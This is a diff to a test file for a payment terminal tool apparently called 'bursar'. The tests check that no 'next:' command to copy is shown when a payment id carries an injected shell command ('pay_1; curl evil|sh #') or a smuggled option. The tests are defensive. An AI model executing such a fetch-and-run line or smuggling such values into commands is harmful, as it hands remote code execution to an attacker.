@@ -139,9 +139,18 @@ describe('a payment on a terminal', () => {
     },
   );
 
-  it('a line to be copied runs nothing but bursar, whatever id the service gave', () => {
-    const text = shown(registeredCard({ payment_id: 'pay_1; curl evil|sh #' }, PAYMENT));
-    expect(text).toContain("next: bursar pay transaction 'pay_1; curl evil|sh #'\n");
+  it.each(['pay_1; curl evil|sh #', '--allow-blind', '--allow-recipient=0x1111111111111111111111111111111111111111'])(
+    'of an id that the service gave as %s no line is to be copied: it would be run, or be an option',
+    (id) => {
+      expect(shown(registeredCard({ payment_id: id }, PAYMENT))).not.toContain('next:');
+      expect(shown(statusCard({ ...PAYMENT, id, status: 'registered' }))).not.toContain('next:');
+    },
+  );
+
+  it('what comes next is never about another payment than the one that was asked for', () => {
+    const other = { ...PAYMENT, id: 'pay_other', status: 'registered' };
+    expect(shown(statusCard(other, { id: 'pay_1' }))).not.toContain('next:');
+    expect(shown(statusCard(other, { id: 'pay_other' }))).toContain('next: bursar pay ');
   });
 
   it('a transaction whose form no document shows is shown whole', () => {
